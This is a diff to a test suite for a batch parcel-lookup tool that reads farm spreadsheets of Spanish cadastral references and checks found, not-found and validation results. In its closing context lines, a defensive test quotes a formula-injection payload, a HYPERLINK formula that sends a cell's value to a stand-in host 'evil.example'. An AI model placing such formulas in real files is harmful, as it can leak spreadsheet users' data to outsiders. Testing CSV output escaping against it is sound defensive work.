@@ -106,6 +106,40 @@ describe('runBatchFile', () => {
     expect(JSON.parse(info.stdout).features).toHaveLength(3);
   });
 
+  it('looks rows of a farm spreadsheet up by province, municipality, polígono and parcela: copy, live, not found, foral, malformed', async () => {
+    // 40146A00500023 answered live: the fake's hand-written Consulta_DNPPP answer, outline cut from the real download.
+    api.service.store.db.prepare('DELETE FROM parcels WHERE country = ? AND ref = ?').run('ES', '40146A00500023');
+    const input = writeInput('farm.csv', [
+      'Provincia;Municipio;Polígono;Parcela;Referencia;Cultivo',
+      '40;146;1;5;;cereal',
+      '40;146;5;23;;barbecho',
+      '40;146;999;99999;;pastos',
+      '31;201;6;1838;;viña',
+      '40;146;1000;1;;olivar',
+      `;;;;${SAMPLE_B};huerta`,
+    ].join('\n'));
+    const output = path.join(dir, 'farm.out.csv');
+    const outcome = await runBatchFile({ input, output, find });
+
+    expect(outcome.columns).toEqual({ reference: 'Referencia', provincia: 'Provincia', municipio: 'Municipio', poligono: 'Polígono', parcela: 'Parcela' });
+    expect(outcome.counts).toEqual({ total: 6, done: 6, found: 3, notFound: 1, failed: 2 });
+    const rows = parse(readFileSync(output, 'utf8'), { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => [r.row, r.status, r.refCatastral, r.in_Cultivo])).toEqual([
+      ['1', 'found', '40146A00100005', 'cereal'],
+      ['2', 'found', '40146A00500023', 'barbecho'],
+      ['3', 'not_found', '', 'pastos'],
+      ['4', 'failed', '', 'viña'],
+      ['5', 'failed', '', 'olivar'],
+      ['6', 'found', SAMPLE_B, 'huerta'],
+    ]);
+    const byRow = new Map(outcome.results.map((r) => [r.row, r]));
+    expect(byRow.get(2)!.parcel!.dataSource).toBe('catastro');
+    expect(byRow.get(4)).toMatchObject({ code: 'CNV_COVERAGE' });
+    expect(byRow.get(4)!.reason).toContain('country=NA');
+    expect(byRow.get(5)).toMatchObject({ code: 'VALIDATION_ERROR' });
+    expect(byRow.get(5)!.reason).toMatch(/'poligono'.*1 to 999/);
+  });
+
   it('writes a CSV no spreadsheet runs as formulas: the user\'s =, +, @ cells get a leading quote, negative coordinates stay numbers, and the result reads back as a batch', async () => {
     const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
     const input = writeInput('formulas.csv', [
